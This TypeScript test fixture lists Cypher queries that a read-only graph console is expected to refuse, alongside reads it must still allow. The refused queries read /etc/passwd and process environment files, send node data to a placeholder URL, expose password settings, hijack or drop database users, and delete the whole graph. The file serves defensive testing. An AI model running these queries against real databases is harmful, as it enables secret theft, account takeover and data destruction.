/**
 * Queries that try to get out of the read-only console: read server files or URLs, see or stop
 * other sessions, administer the DBMS, call procedures or plugin functions, write, or switch
 * database. Each must be refused by the API and `kgx query`, with the database unchanged.
 * `URL` in a query is replaced by a loopback HTTP server's address that counts its requests.
 */

/** One escape attempt. */
export interface Escape {
  cypher: string;
  params?: Record<string, unknown>;
}

const files = ["file:///etc/passwd", "file:///proc/self/environ", "file:///etc/hostname"];

/** The escape list (66 queries). */
export const ESCAPES: Escape[] = [
  // files and URLs
  ...files.map((f) => ({ cypher: `LOAD CSV FROM '${f}' AS r RETURN r` })),
  { cypher: "LOAD CSV FROM 'URL/data.csv' AS r RETURN r" },
  { cypher: "LOAD CSV WITH HEADERS FROM 'URL/h.csv' AS r RETURN r" },
  { cypher: "load csv from 'file:///etc/passwd' as r return r limit 1" },
  { cypher: "LOAD CSV FROM 'file:///etc/passwd' AS r FIELDTERMINATOR ':' RETURN r[0]" },
  { cypher: "WITH 'file:///etc/passwd' AS u LOAD CSV FROM u AS r RETURN r" },
  { cypher: "LOAD CSV FROM $url AS r RETURN r", params: { url: "file:///etc/passwd" } },
  { cypher: "LOAD CSV FROM $url AS r RETURN r", params: { url: "URL/param.csv" } },
  { cypher: "CALL { LOAD CSV FROM 'file:///etc/passwd' AS r RETURN r } RETURN r" },
  { cypher: "CALL () { LOAD CSV FROM 'URL/sub.csv' AS r RETURN r } RETURN r" },
  { cypher: "MATCH (n) RETURN n.name AS x UNION LOAD CSV FROM 'file:///etc/passwd' AS r RETURN r[0] AS x" },
  { cypher: "/* harmless */ LOAD CSV FROM 'file:///etc/passwd' AS r RETURN r" },
  { cypher: "UNWIND ['file:///etc/passwd'] AS u LOAD CSV FROM u AS r RETURN r" },
  { cypher: "MATCH (e:Entity) WITH e LIMIT 1 LOAD CSV FROM 'URL/' + e.id AS r RETURN r" },
  // other sessions, settings, administration
  { cypher: "SHOW TRANSACTIONS" },
  { cypher: "SHOW TRANSACTIONS YIELD currentQuery, parameters RETURN currentQuery, parameters" },
  { cypher: "TERMINATE TRANSACTIONS 'neo4j-transaction-1'" },
  { cypher: "SHOW SETTINGS" },
  { cypher: "SHOW SETTINGS YIELD name, value WHERE name CONTAINS 'password' RETURN name, value" },
  { cypher: "SHOW USERS" },
  { cypher: "SHOW CURRENT USER" },
  { cypher: "SHOW DATABASES" },
  { cypher: "SHOW PROCEDURES" },
  { cypher: "SHOW FUNCTIONS" },
  { cypher: "SHOW SERVERS" },
  { cypher: "SHOW ALIASES FOR DATABASE" },
  { cypher: "CREATE USER intruder SET PASSWORD 'intruder-password'" },
  { cypher: "ALTER USER neo4j SET PASSWORD 'owned-password-1'" },
  { cypher: "DROP USER neo4j" },
  { cypher: "CREATE DATABASE other" },
  { cypher: "STOP DATABASE neo4j" },
  { cypher: "CREATE INDEX hack FOR (n:Entity) ON (n.hack)" },
  { cypher: "DROP INDEX entity_names" },
  { cypher: "CREATE CONSTRAINT hack FOR (n:Hack) REQUIRE n.id IS UNIQUE" },
  { cypher: "USE system SHOW USERS" },
  { cypher: "USE system MATCH (n) RETURN n" },
  // procedures outside the read allow-list
  { cypher: "CALL dbms.listConfig()" },
  { cypher: "CALL dbms.listConnections()" },
  { cypher: "CALL dbms.components()" },
  { cypher: "CALL dbms.setConfigValue('db.logs.query.enabled', 'OFF')" },
  { cypher: "CALL db.createLabel('Hack')" },
  { cypher: "CALL db.createProperty('hack')" },
  { cypher: "CALL db.createRelationshipType('HACK')" },
  { cypher: "CALL db.clearQueryCaches()" },
  { cypher: "CALL db.checkpoint()" },
  { cypher: "CALL db.stats.retrieve('GRAPH COUNTS')" },
  { cypher: "CALL tx.setMetaData({owner: 'intruder'})" },
  { cypher: "CALL dbms.showCurrentUser()" },
  { cypher: "CALL apoc.load.json('file:///etc/passwd')" },
  { cypher: "RETURN apoc.version()" },
  { cypher: "RETURN apoc.util.md5(['x'])" },
  { cypher: "MATCH (n) RETURN custom.leak(n)" },
  // writes, plain and hidden
  { cypher: "CREATE (n:Hack) RETURN n" },
  { cypher: "MERGE (n:Hack {id: 1}) RETURN n" },
  { cypher: "MATCH (n:Entity) SET n.hacked = true RETURN count(n)" },
  { cypher: "MATCH (n:Entity) REMOVE n.name RETURN count(n)" },
  { cypher: "MATCH (n) DETACH DELETE n" },
  { cypher: "MATCH ()-[r]->() DELETE r" },
  { cypher: "FOREACH (x IN [1, 2] | CREATE (:Hack {x: x}))" },
  { cypher: "CALL { CREATE (n:Hack) RETURN n } RETURN n" },
  { cypher: "MATCH (n:Entity) CALL (n) { SET n.hacked = true } RETURN count(*)" },
  { cypher: "UNWIND range(1, 3) AS i CALL { CREATE (:Hack) } IN TRANSACTIONS RETURN i" },
  { cypher: "MATCH (n) RETURN n.name AS x UNION CREATE (m:Hack) RETURN m.name AS x" },
  { cypher: "EXPLAIN CREATE (n:Hack)" },
  { cypher: "PROFILE MATCH (n) DETACH DELETE n" },
  { cypher: "MATCH (n) RETURN n; CREATE (m:Hack)" },
];

/** Read queries the console must still answer (guards against refusing too much). */
export const READS: string[] = [
  "MATCH (n) RETURN count(n) AS n",
  "MATCH (a:Entity)-[r]->(b:Entity) RETURN a.name, type(r), b.name ORDER BY a.name LIMIT 5",
  "MATCH (a:Entity {kind: 'Person'}) RETURN a.name ORDER BY a.name",
  "MATCH p = shortestPath((a:Entity)-[*..4]-(b:Entity)) WHERE a <> b RETURN length(p) LIMIT 1",
  "MATCH (a:Entity) OPTIONAL MATCH (a)-[r]->() RETURN a.name, count(r) AS out ORDER BY out DESC LIMIT 3",
  "MATCH (a:Entity) WHERE EXISTS { (a)-[:THREATENS]->() } RETURN a.name",
  "MATCH (a:Entity) RETURN a.kind AS kind, collect(a.name) AS names",
  "MATCH (v:Evidence)-[:FROM]->(d:Document) RETURN d.id, count(v) ORDER BY d.id",
  "CALL db.labels()",
  "CALL db.relationshipTypes() YIELD relationshipType RETURN relationshipType ORDER BY relationshipType",
  "CALL db.propertyKeys()",
  "CALL db.schema.visualization()",
  "CALL db.index.fulltext.queryNodes('entity_names', 'ruiz') YIELD node, score RETURN node.name, score",
  "RETURN date('2026-01-10') + duration('P1M') AS d, datetime.truncate('day', datetime()) IS NOT NULL AS t",
  "UNWIND range(1, 5) AS i RETURN i * 2 AS x",
  "MATCH (a:Entity) WITH a ORDER BY a.name SKIP 1 LIMIT 2 RETURN DISTINCT a.kind",
  "CALL { MATCH (a:Entity) RETURN a LIMIT 2 } RETURN a.name",
  "USE neo4j MATCH (n:Entity) RETURN count(n)",
  "SHOW INDEXES YIELD name, type RETURN name, type ORDER BY name",
  "SHOW CONSTRAINTS",
];
